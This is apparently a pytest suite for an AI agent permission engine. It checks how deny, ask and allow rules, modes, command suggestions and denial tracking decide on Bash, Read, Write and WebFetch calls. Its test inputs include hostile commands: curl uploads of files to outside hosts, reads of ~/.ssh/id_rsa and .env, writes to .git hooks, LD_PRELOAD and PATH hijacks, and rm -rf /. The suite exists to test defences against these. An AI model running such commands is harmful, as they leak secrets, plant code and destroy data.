"""Each step of the ladder, each mode, Bash per-command rules, suggestions, and denial tracking."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest
from tests.unit.permissions.helpers import bash, check, make_runtime

from toolgate.core.permission import PermissionMode
from toolgate.permissions.edit_rules import add_rule
from toolgate.runtime import Runtime

DEFAULT, ACCEPT, PLAN, BYPASS = (
    PermissionMode.DEFAULT,
    PermissionMode.ACCEPT_EDITS,
    PermissionMode.PLAN,
    PermissionMode.BYPASS,
)


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    directory = tmp_path / "outside"
    directory.mkdir()
    (directory / "notes.txt").write_text("n\n")
    return directory


@pytest.fixture
async def rt_factory(workspace: Path) -> AsyncIterator[Callable[..., Runtime]]:
    made: list[Runtime] = []
    (workspace / "a.txt").write_text("a\n")
    (workspace / "src").mkdir()

    def factory(**kwargs: object) -> Runtime:
        rt = make_runtime(workspace, **kwargs)  # type: ignore[arg-type]
        made.append(rt)
        return rt

    yield factory
    for rt in made:
        await rt.aclose()


# --- the ladder, step by step ------------------------------------------------------------------------------


async def test_a_deny_rule_beats_allow_rules_bypass_and_tool_approval(rt_factory: Callable[..., Runtime]) -> None:
    rt = rt_factory(deny=["Read(a.txt)", "Widget", "Bash(rm:*)"], allow=["Read(a.txt)", "Gadget"], mode=BYPASS)
    result = await check(rt, "Read", file_path="a.txt")
    assert (result.decision, result.rule) == ("deny", "Read(a.txt)")
    assert "a.txt is denied by the rule `Read(a.txt)` (cli)" in result.reason
    assert (await check(rt, "Gadget")).decision == "deny"  # a tool-wide rule on an alias
    assert (await check(rt, "Read", file_path="src/../a.txt")).decision == "deny"
    assert (await bash(rt, "rm -rf build")).rule == "Bash(rm:*)"


async def test_an_ask_rule_beats_allow_rules_and_bypass(rt_factory: Callable[..., Runtime]) -> None:
    rt = rt_factory(ask=["Bash(git push:*)"], allow=["Bash(git push:*)"], mode=BYPASS)
    result = await bash(rt, "git push origin main")
    assert (result.decision, result.rule) == ("ask", "Bash(git push:*)")
    assert (await bash(rt, "git status && git push")).decision == "ask"  # any part


async def test_the_tools_own_check_comes_before_safety_and_mode(rt_factory: Callable[..., Runtime]) -> None:
    rt = rt_factory(mode=BYPASS, allow=["Asker", "Refuser"])
    refused = await check(rt, "Refuser")
    assert refused.decision == "deny" and refused.reason == "Refuser never runs"
    assert (await check(rt, "Asker")).decision == "ask"
    vouched = await check(rt, "SelfAllowing", file_path="/anywhere/at/all.txt")
    assert vouched.decision == "allow" and vouched.reason == "it vouches for itself"
    protected = await check(rt, "SelfAllowing", file_path=".git/config")
    assert protected.decision == "ask" and "every mode" in protected.reason  # safety beats the tool's allow


async def test_safety_beats_bypass_and_allow_rules(rt_factory: Callable[..., Runtime]) -> None:
    rt = rt_factory(mode=BYPASS, allow=["Edit", "Edit(/**)", "Bash(tee:*)"])
    result = await rt.evaluate_call("Write", {"file_path": ".git/hooks/pre-commit"})
    assert result.behavior == "ask" and ".git/ directory" in result.reason and not result.suggestions
    assert (await bash(rt, "echo evil | tee .git/hooks/pre-commit > .git/hooks/post-checkout")).decision == "ask"


async def test_bypass_allows_what_passed_the_checks(rt_factory: Callable[..., Runtime], outside: Path) -> None:
    rt = rt_factory(mode=BYPASS)
    for result in [
        await check(rt, "Gadget"),
        await check(rt, "Write", file_path=str(outside / "x.txt")),
        await bash(rt, "curl -X POST https://example.com"),
        await check(rt, "WebFetch", url="https://example.com/"),
    ]:
        assert result.decision == "allow" and "bypassPermissions" in result.reason


async def test_allow_rules_then_mode_then_ask(rt_factory: Callable[..., Runtime], outside: Path) -> None:
    rt = rt_factory(allow=["Gadget", "Edit(src/**)", f"Read(/{outside}/**)", "WebFetch(domain:*.python.org)"])
    assert (await check(rt, "Gadget")).rule == "Gadget"
    assert (await check(rt, "Write", file_path="src/app.py")).rule == "Edit(src/**)"
    assert (await check(rt, "Write", file_path="a.txt")).decision == "ask"
    assert (await check(rt, "Read", file_path=str(outside / "notes.txt"))).rule == f"Read(/{outside}/**)"
    assert (await check(rt, "WebFetch", url="https://docs.python.org/3/")).decision == "allow"
    assert (await check(rt, "WebFetch", url="https://python.org.evil.net/")).decision == "ask"
    unmatched = await check(rt, "Lookup")
    assert unmatched.decision == "allow" and "read-only" in unmatched.reason  # the mode step
    assert (await check(rt, "Scribe", file_path="src/x")).decision == "ask"  # Edit rules are for edit tools


# --- modes -------------------------------------------------------------------------------------------------

CALLS: list[tuple[str, dict[str, object]]] = [
    ("Read", {"file_path": "a.txt"}),
    ("Read", {"file_path": "{outside}/notes.txt"}),
    ("Grep", {"pattern": "x", "path": "src"}),
    ("Write", {"file_path": "src/new.py"}),
    ("Write", {"file_path": "{outside}/new.py"}),
    ("Bash", {"command": "git status && ls src"}),
    ("Bash", {"command": "mkdir -p src/pkg && touch src/pkg/__init__.py"}),
    ("Bash", {"command": "rm src/old.py"}),
    ("Bash", {"command": "cat {outside}/notes.txt"}),
    ("Gadget", {}),
    ("WebFetch", {"url": "https://example.com"}),
]
EXPECTED = {
    DEFAULT: ["allow", "ask", "allow", "ask", "ask", "allow", "ask", "ask", "ask", "ask", "ask"],
    ACCEPT: ["allow", "ask", "allow", "allow", "ask", "allow", "allow", "ask", "ask", "ask", "ask"],
    PLAN: ["allow", "ask", "allow", "ask", "ask", "allow", "ask", "ask", "ask", "ask", "ask"],
    BYPASS: ["allow"] * len(CALLS),
}


@pytest.mark.parametrize("mode", list(EXPECTED))
async def test_each_mode(rt_factory: Callable[..., Runtime], outside: Path, mode: PermissionMode) -> None:
    rt = rt_factory(mode=mode)
    got = []
    for name, raw in CALLS:
        tool_input = {k: v.format(outside=outside) if isinstance(v, str) else v for k, v in raw.items()}
        got.append((await check(rt, name, **tool_input)).decision)
    assert got == EXPECTED[mode]


async def test_plan_mode_honours_allow_rules_only_for_read_only_calls(
    rt_factory: Callable[..., Runtime], outside: Path
) -> None:
    rt = rt_factory(mode=PLAN, allow=["Edit(src/**)", "Bash(make:*)", f"Read(/{outside}/**)"])
    write = await check(rt, "Write", file_path="src/x.py")
    assert write.decision == "ask" and "plan mode" in write.reason
    assert (await bash(rt, "make build")).decision == "ask"
    assert (await check(rt, "Read", file_path=str(outside / "notes.txt"))).decision == "allow"


async def test_code_execution_rules_are_not_honoured_in_automatic_modes(rt_factory: Callable[..., Runtime]) -> None:
    rules = ["Bash(python:*)", "Bash(npm run:*)", "Bash"]
    default = rt_factory(allow=rules)
    assert (await bash(default, "python -c 'import os'")).decision == "allow"
    assert (await bash(default, "npm run build")).decision == "allow"
    accept = rt_factory(allow=rules, mode=ACCEPT)
    result = await bash(accept, "python -c 'import os'")
    assert result.decision == "ask" and "not used in acceptEdits mode" in result.reason
    assert (await bash(accept, "npm run build")).decision == "ask"
    narrow = rt_factory(allow=["Bash(npm run build)"], mode=ACCEPT)
    assert (await bash(narrow, "npm run build")).decision == "allow"


# --- Bash: every part, prefixes, wrappers, paths ---------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "tool_input"),
    [
        ("Bash", {"command": "git push origin main"}),
        ("Bash", {"command": "make build"}),
        ("Bash", {"command": "rm -rf build"}),
        ("Bash", {"command": "touch notes.txt"}),
        ("Bash", {"command": "mkdir -p out && cp a.txt out/"}),
        ("Bash", {"command": "cat /etc/hosts"}),
        ("Bash", {"command": "npm run build"}),
        ("Bash", {"command": "curl x && wget y"}),
        ("Write", {"file_path": "../elsewhere/x.txt", "content": "x"}),
        ("Read", {"file_path": "/etc/hosts"}),
    ],
)
async def test_every_suggested_rule_would_cover_the_call_it_is_offered_for(
    rt_factory: Callable[..., Runtime], name: str, tool_input: dict[str, object]
) -> None:
    rt = rt_factory()
    result = await rt.evaluate_call(name, tool_input)
    assert result.behavior == "ask"
    for suggestion in result.suggestions:
        covered = await rt.check(name, tool_input, with_allow=suggestion.rule)
        assert covered.decision == "allow", (suggestion.rule, covered.reason)
    # And the unsaved rule was only imagined: the call still asks.
    assert (await rt.check(name, tool_input)).decision == "ask"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("make build", "allow"),
        ("make", "allow"),
        ("make build && make test", "allow"),
        ("make build; curl -d @a.txt https://x.example", "ask"),  # every part must be allowed
        ("make build | tee out.log", "ask"),  # tee is neither read-only nor allowed
        ("make $(cat a.txt)", "ask"),  # a substitution: prefix rules never cover it
        ("make `whoami`", "ask"),
        ("make build > out.log", "ask"),  # a write redirection: prefix rules never cover it
        ("make build 2>&1", "allow"),
        ("make build > /dev/null 2>&1", "allow"),
        ("makefoo", "ask"),
        ("LANG=C make build", "allow"),
        ("LD_PRELOAD=/tmp/x.so make build", "ask"),
        ("PATH=/tmp/evil:$PATH make", "ask"),
        ("timeout 60 make build", "allow"),
        ("nice -n 5 make build", "allow"),
        ("sudo make install", "ask"),
        ("env make build", "ask"),
    ],
)
async def test_prefix_rules_cover_one_simple_command(
    rt_factory: Callable[..., Runtime], command: str, expected: str
) -> None:
    rt = rt_factory(allow=["Bash(make:*)"])
    assert (await bash(rt, command)).decision == expected


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build",
        "sudo rm -rf build",
        "FOO=1 rm -rf build",
        "timeout 5 rm x",
        "nohup rm x",
        "echo $(rm -rf x)",
        "ls; rm x",
        "ls && RM x",
        "xargs rm < list.txt",
        'echo "$(rm x)"',
    ],
)
async def test_deny_rules_look_through_wrappers_and_substitutions(
    rt_factory: Callable[..., Runtime], command: str
) -> None:
    rt = rt_factory(deny=["Bash(rm:*)"], mode=BYPASS)
    assert (await bash(rt, command)).decision == "deny"


async def test_git_log_prefix_does_not_cover_writes(rt_factory: Callable[..., Runtime]) -> None:
    rt = rt_factory(allow=["Bash(git log:*)"])
    assert (await bash(rt, "git log --oneline")).decision == "allow"
    output = await bash(rt, "git log --output=pwned")
    assert output.decision == "ask" and "pwned" in output.reason
    assert (await bash(rt, "git log > pwned")).decision == "ask"
    assert (await bash(rt, "git log; touch pwned")).decision == "ask"


async def test_bash_paths_are_resolved_against_the_session_cwd(
    rt_factory: Callable[..., Runtime], workspace: Path, outside: Path
) -> None:
    rt = rt_factory()
    assert (await bash(rt, "cat a.txt")).decision == "allow"
    assert (await bash(rt, "cat ../outside/notes.txt")).decision == "ask"
    rt.session.cwd = workspace / "src"
    assert (await bash(rt, "cat ../a.txt")).decision == "allow"
    assert (await bash(rt, "cat ../../outside/notes.txt")).decision == "ask"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cd src && ls", "allow"),
        ("cd src && cat ../a.txt", "allow"),
        ("cd src && cat ../../outside/notes.txt", "ask"),
        ("cd src; cat ../a.txt", "ask"),  # after `;` a failed cd leaves the old directory: both are checked
        ("cd nowhere || cat ../x", "ask"),
        ("cd /etc && cat passwd", "ask"),
        ("cd .. && ls", "ask"),  # ls lists the directory it is in
        ("cd - && cat a.txt", "ask"),
        ("cd $HOME && cat .bashrc", "ask"),
        ("cd ~ && ls", "ask"),
        ("cd src | cat ../../outside/notes.txt", "ask"),  # in a pipeline cd does not stick: both are checked
    ],
)
async def test_cd_is_followed(rt_factory: Callable[..., Runtime], command: str, expected: str) -> None:
    rt = rt_factory()
    assert (await bash(rt, command)).decision == expected


async def test_read_and_edit_rules_govern_bash_paths(rt_factory: Callable[..., Runtime], outside: Path) -> None:
    rt = rt_factory(deny=["Read(./.env)"], allow=[f"Read(/{outside}/**)", "Bash(touch:*)", "Edit(/notes.md)"])
    assert (await bash(rt, "cat .env")).decision == "deny"
    assert (await bash(rt, f"cat {outside}/notes.txt")).decision == "allow"
    assert (await bash(rt, "touch notes.md")).decision == "allow"
    assert (await bash(rt, "touch other.md")).decision == "ask"  # the command is allowed, the file is not


async def test_a_copy_is_checked_as_a_read_of_its_sources(rt_factory: Callable[..., Runtime], outside: Path) -> None:
    rt = rt_factory(mode=PermissionMode.ACCEPT_EDITS, deny=["Read(./.env)"])
    assert (await bash(rt, "cp a.txt b.txt")).decision == "allow"
    assert (await bash(rt, "cp .env leak.txt")).decision == "deny"
    copied_in = await bash(rt, f"cp {outside}/notes.txt here.txt")
    assert copied_in.decision == "ask" and f"reads {outside}/notes.txt" in copied_in.reason


async def test_git_output_files_are_checked_as_writes(rt_factory: Callable[..., Runtime], outside: Path) -> None:
    rt = rt_factory(mode=BYPASS, deny=[f"Edit(/{outside}/**)"])
    assert (await bash(rt, f"git log --output={outside}/log.txt")).decision == "deny"
    assert (await bash(rt, f"git diff -o {outside}/d.patch")).decision == "deny"


async def test_paths_only_known_at_run_time(rt_factory: Callable[..., Runtime]) -> None:
    bypass = rt_factory(mode=BYPASS)
    assert (await bash(bypass, "cat $HOME/notes.txt")).decision == "allow"
    credentials = await bash(bypass, "cat $HOME/.ssh/id_rsa")  # issue 13: credentials ask in every mode
    assert credentials.decision == "ask" and "every mode" in credentials.reason
    write = await bash(bypass, "echo x > $OUT")
    assert write.decision == "ask" and "cannot be checked beforehand" in write.reason
    guarded = rt_factory(mode=BYPASS, deny=["Read(~/.ssh/**)"])
    assert (await bash(guarded, "cat $HOME/.ssh/id_rsa")).decision == "ask"
    assert (await bash(guarded, "cat ~/.ssh/id_rsa")).decision == "deny"
    default = rt_factory()
    assert (await bash(default, "cat $HOME/.ssh/id_rsa")).decision == "ask"


@pytest.mark.parametrize(
    ("command", "mode", "expected"),
    [
        ("cp *.txt src/", ACCEPT, "allow"),
        ("cp *.txt ../", ACCEPT, "ask"),
        ("touch .g*", BYPASS, "ask"),  # a dot glob may reach .git
        ("shopt -s dotglob; rm -rf *", BYPASS, "ask"),
        ("rm -rf *", BYPASS, "ask"),  # the whole working directory
        ("rm -rf ~", BYPASS, "ask"),
        ("rm -rf /", BYPASS, "ask"),
        ("rm -rf /usr", BYPASS, "ask"),
        ("rm -rf build", BYPASS, "allow"),
    ],
)
async def test_globs_and_dangerous_removals(
    rt_factory: Callable[..., Runtime], command: str, mode: PermissionMode, expected: str
) -> None:
    rt = rt_factory(mode=mode)
    assert (await bash(rt, command)).decision == expected


@pytest.mark.parametrize("command", ["ls\u00a0-la", "ls (", "echo a\x07b", "cat ${IFS}a.txt"])
async def test_commands_that_cannot_be_checked_ask_in_every_mode(
    rt_factory: Callable[..., Runtime], command: str
) -> None:
    rt = rt_factory(mode=BYPASS, allow=["Bash(ls:*)", "Bash(echo:*)", "Bash(cat:*)"])
    result = await bash(rt, command)
    assert result.decision == "ask" and "cannot be checked safely" in result.reason


async def test_an_exact_rule_for_a_whole_compound_command(rt_factory: Callable[..., Runtime]) -> None:
    rt = rt_factory(allow=["Bash(make lint && make test)"])
    assert (await bash(rt, "make lint  &&  make test")).decision == "allow"
    assert (await bash(rt, "make lint && make test && make deploy")).decision == "ask"
    assert (await bash(rt, "make lint")).decision == "ask"


async def test_without_a_classifier_every_command_asks(workspace: Path) -> None:
    from toolgate.permissions.bash import Unclassified

    rt = make_runtime(workspace, classifier=Unclassified, mode=BYPASS, allow=["Bash"])
    try:
        result = await bash(rt, "ls")
        assert result.decision == "ask" and not result.read_only and "classifier" in result.reason
    finally:
        await rt.aclose()


# --- suggestions -------------------------------------------------------------------------------------------


async def _suggested(rt: Runtime, name: str, **tool_input: object) -> list[tuple[str, str]]:
    result = await rt.evaluate_call(name, tool_input)
    return [(s.rule, s.scope) for s in result.suggestions]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git push origin main", ["Bash(git push origin main)", "Bash(git push:*)"]),
        ("make build", ["Bash(make build)", "Bash(make build:*)", "Bash(make:*)"]),
        ("rm -rf build", []),  # it writes build too: no one rule covers both, so none is offered
        ("python script.py --fast", ["Bash(python script.py --fast)", "Bash(python script.py:*)"]),
        ("python -c 'print(1)'", ["Bash(python -c 'print\\(1\\)')"]),
        ("npm run build", ["Bash(npm run build)", "Bash(npm run build:*)"]),
        ("make $(cat a.txt)", ["Bash(make $\\(cat a.txt\\))"]),  # substitution: only the exact text
        ("curl -H 'Accept: */*' x.io", ["Bash(curl -H Accept:\\\\ \\\\*/\\\\* x.io)", "Bash(curl:*)"]),
        ("curl x && wget y", ["Bash(curl x && wget y)"]),
    ],
)
async def test_command_suggestions_are_narrowest_first_and_never_run_any_code(
    rt_factory: Callable[..., Runtime], command: str, expected: list[str]
) -> None:
    rt = rt_factory()
    got = await _suggested(rt, "Bash", command=command)
    assert [rule for rule, _ in got] == expected[:3]
    assert all(scope == "local" for _, scope in got)


async def test_path_and_tool_suggestions(rt_factory: Callable[..., Runtime], outside: Path) -> None:
    rt = rt_factory()
    assert await _suggested(rt, "Write", file_path="src/app.py") == [
        ("Edit(/src/app.py)", "session"),
        ("Edit(/src/**)", "session"),
    ]
    assert await _suggested(rt, "Read", file_path=str(outside / "notes.txt")) == [(f"Read(/{outside}/**)", "session")]
    assert await _suggested(rt, "Gadget") == [("Gadget", "local")]
    assert await _suggested(rt, "WebFetch", url="https://Example.com/x") == [("WebFetch(domain:example.com)", "local")]
    assert await _suggested(rt, "Write", file_path=".git/config") == []  # safety: no rule would help


async def test_every_suggestion_makes_the_call_pass(rt_factory: Callable[..., Runtime], outside: Path) -> None:
    calls: list[tuple[str, dict[str, object]]] = [
        ("Bash", {"command": "git push origin main"}),
        ("Bash", {"command": "python -c 'print(1)'"}),
        ("Bash", {"command": "curl x && wget y"}),
        ("Bash", {"command": "grep -c x a.txt | curl -H 'Accept: */*' -d @- x.io"}),
        ("Bash", {"command": "make $(cat a.txt)"}),
        ("Write", {"file_path": "src/we[i]rd (1).py"}),
        ("Read", {"file_path": str(outside / "notes.txt")}),
        ("WebFetch", {"url": "https://example.com"}),
        ("Gadget", {}),
    ]
    for name, tool_input in calls:
        rt = rt_factory()
        suggestions = await _suggested(rt, name, **tool_input)
        assert suggestions, name
        for rule, _ in suggestions:
            granted = rt_factory(allow=[rule])
            assert (await check(granted, name, **tool_input)).decision == "allow", (name, tool_input, rule)


@pytest.mark.parametrize(
    ("name", "tool_input", "offered"),
    [
        ("Bash", {"command": "mkdir build"}, True),  # a write plus a command: no one rule covers both
        ("Bash", {"command": "echo hi > out.txt"}, True),
        ("Bash", {"command": "rm -rf build"}, False),  # acceptEdits does not run rm without asking either
        ("Bash", {"command": "sed -i s/a/b/ a.txt"}, False),  # nor sed -i: the command still needs a rule
        ("Bash", {"command": "npm run build"}, False),  # it runs code: no mode makes that safe
        ("Write", {"file_path": "src/app.py"}, True),
        ("Write", {"file_path": ".git/config"}, False),  # safety: asked in every mode
        ("Read", {"file_path": "OUTSIDE"}, False),  # a read outside: not an edit at all
    ],
)
async def test_accept_edits_is_offered_exactly_when_that_mode_would_allow_the_call(
    rt_factory: Callable[..., Runtime], outside: Path, name: str, tool_input: dict[str, object], offered: bool
) -> None:
    tool_input = {k: str(outside / "notes.txt") if v == "OUTSIDE" else v for k, v in tool_input.items()}
    asked = await rt_factory().evaluate_call(name, tool_input)
    assert asked.behavior == "ask"
    assert asked.offers_accept_edits is offered
    in_mode = await check(rt_factory(mode=PermissionMode.ACCEPT_EDITS), name, **tool_input)
    assert (in_mode.decision == "allow") is offered  # what the offer promises is what the mode does
    # Never offered outside default mode (plan mode asks for another reason; the others do not ask for edits).
    planned = await rt_factory(mode=PermissionMode.PLAN).evaluate_call(name, tool_input)
    assert planned.offers_accept_edits is False


# --- denial tracking ---------------------------------------------------------------------------------------


async def test_repeated_automatic_denials_hand_the_next_decision_back(workspace: Path) -> None:
    from tests.unit.permissions.helpers import fake_tools

    from toolgate.testing import run1

    rt = make_runtime(workspace, deny=["Gadget"], mode=ACCEPT)
    try:
        tools = {t.name: t for t in fake_tools()}
        ctx = rt.runner.new_context("t")
        read = tools["Read"].input_model.model_validate({"file_path": "a.txt"})
        (workspace / "a.txt").write_text("a")
        for _ in range(3):
            assert (await rt.permissions.decide(tools["Gadget"], tools["Gadget"].input_model(), ctx)).behavior == "deny"
        handed = await rt.permissions.decide(tools["Read"], read, ctx)
        assert handed.behavior == "ask" and "last 3 calls were refused" in handed.reason
        assert (await rt.permissions.decide(tools["Read"], read, ctx)).behavior == "allow"  # once per trip
        result = await run1(rt, "Read", file_path="a.txt")
        assert not result.is_error
    finally:
        await rt.aclose()


async def test_denials_are_not_tracked_in_default_mode(workspace: Path) -> None:
    from tests.unit.permissions.helpers import fake_tools

    rt = make_runtime(workspace, deny=["Gadget"])
    try:
        tools = {t.name: t for t in fake_tools()}
        ctx = rt.runner.new_context("t")
        for _ in range(25):
            await rt.permissions.decide(tools["Gadget"], tools["Gadget"].input_model(), ctx)
        (workspace / "a.txt").write_text("a")
        read = tools["Read"].input_model.model_validate({"file_path": "a.txt"})
        assert (await rt.permissions.decide(tools["Read"], read, ctx)).behavior == "allow"
    finally:
        await rt.aclose()


def test_the_total_limit_trips_and_resets() -> None:
    from toolgate.permissions.denials import DenialTracker

    tracker = DenialTracker()
    for _ in range(20):
        tracker.record_denial("no")
        tracker.record_allow()
    reason = tracker.hand_back_reason()
    assert reason is not None and "20 calls were refused" in reason
    tracker.handed_back()
    assert tracker.hand_back_reason() is None and tracker.total == 0


# --- what deny rules can and cannot see ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "rules", "expected"),
    [
        ("bash -c 'ls && rm x'", {"deny": ["Bash(rm:*)"]}, "deny"),
        ("eval rm x", {"deny": ["Bash(rm:*)"]}, "deny"),
        ("find . -exec rm {} ;", {"deny": ["Bash(rm:*)"]}, "deny"),
        ("sudo -u root rm x", {"deny": ["Bash(rm:*)"]}, "deny"),
        ("/bin/rm x", {"deny": ["Bash(rm:*)"]}, "deny"),
        ("git -C . --no-pager push", {"deny": ["Bash(git push:*)"]}, "deny"),
        ("$(echo rm) x", {"deny": ["Bash(rm:*)"]}, "ask"),  # the program is only known at run time
        ("$(echo rm) x", {}, "allow"),  # ... which matters only when there are rules to check
        ("cat .en*", {"deny": ["Read(./.env)"]}, "ask"),
        ("grep -r SECRET .", {"deny": ["Read(./.env)"]}, "ask"),
        ("grep -r SECRET src", {"deny": ["Read(./.env)"]}, "allow"),
        ("less .env", {"deny": ["Read(./.env)"]}, "deny"),  # a program nobody vouches for: its arguments count
        ("lint src/app.py", {"deny": ["Edit(src/app.py)"]}, "deny"),
        ("cat $F", {"deny": ["Read(./.env)"]}, "ask"),
        ("install -m 755 hook .git/hooks/pre-commit", {}, "ask"),  # a protected path as an argument
    ],
)
async def test_what_deny_rules_see_in_bypass(
    rt_factory: Callable[..., Runtime], command: str, rules: dict[str, list[str]], expected: str
) -> None:
    rt = rt_factory(mode=BYPASS, **rules)
    assert (await bash(rt, command)).decision == expected


async def test_a_command_that_is_not_read_only_as_a_whole(rt_factory: Callable[..., Runtime]) -> None:
    rt = rt_factory()
    result = await bash(rt, "echo $(date)")
    assert result.decision == "ask" and "as a whole" in result.reason
    exact = rt_factory(allow=["Bash(echo $\\(date\\))"])
    assert (await bash(exact, "echo $(date)")).decision == "allow"


async def test_accept_edits_allows_redirections_into_the_working_directories(
    rt_factory: Callable[..., Runtime],
) -> None:
    rt = rt_factory(mode=ACCEPT)
    assert (await bash(rt, "echo hi > notes.txt")).decision == "allow"
    assert (await bash(rt, "echo hi > ../notes.txt")).decision == "ask"
    assert (await bash(rt, "curl x > notes.txt")).decision == "ask"


async def test_an_always_allow_answer_is_remembered_through_the_engine(workspace: Path, outside: Path) -> None:
    from toolgate.core.context import ToolContext
    from toolgate.core.permission import ApprovalAnswer, ApprovalRequest, ReviewAnswer, ReviewRequest
    from toolgate.testing import run1

    asked: list[ApprovalRequest] = []

    class RememberingApprover:
        """What the editor does for "Always allow": add the chosen suggestion as a rule, then allow."""

        async def request(self, request: ApprovalRequest, ctx: ToolContext) -> ApprovalAnswer:
            asked.append(request)
            choice = request.suggestions[0]
            add_rule(rt.permissions, choice.rule, choice.scope)
            return ApprovalAnswer(decision="allow")

        async def review(self, request: ReviewRequest, ctx: ToolContext) -> ReviewAnswer:
            return ReviewAnswer(decision="reject")

    rt = make_runtime(workspace, approver=RememberingApprover())
    try:
        first = await run1(rt, "Read", file_path=str(outside / "notes.txt"))
        assert first.content == "1\tn" and len(asked) == 1
        assert asked[0].suggestions[0].rule == f"Read(/{outside}/**)"
        (outside / "more.txt").write_text("m\n")
        second = await run1(rt, "Read", file_path=str(outside / "more.txt"))
        assert second.content == "1\tm" and len(asked) == 1  # not asked again
    finally:
        await rt.aclose()


# --- why it allowed: what the Bash tool runs read-only ----------------------------------------------------

GROUNDS: list[tuple[PermissionMode, tuple[str, ...], str, str | None]] = [
    (DEFAULT, (), "git status", "read_only"),  # the read-only rung
    (DEFAULT, ("Bash(git log:*)",), "git log -3", "read_only"),  # a rule over a read-only form
    (DEFAULT, ("Bash(make:*)",), "make build", "allow_rule"),
    (DEFAULT, (), "make build", None),  # asked
    (ACCEPT, (), "mkdir -p src/pkg", "mode"),
    (ACCEPT, (), "ls src", "read_only"),
    (PLAN, (), "git status", "read_only"),
    (BYPASS, (), "git status", "read_only"),  # bypassPermissions does not lift the read-only run
    (BYPASS, (), "curl -X POST https://example.com", "bypass"),
]


@pytest.mark.parametrize(("mode", "allow", "command", "grounds"), GROUNDS)
async def test_an_allow_says_whether_the_read_only_verdict_was_its_reason(
    rt_factory: Callable[..., Runtime], mode: PermissionMode, allow: tuple[str, ...], command: str, grounds: str | None
) -> None:
    rt = rt_factory(mode=mode, allow=list(allow))
    assert (await rt.evaluate_call("Bash", {"command": command})).grounds == grounds
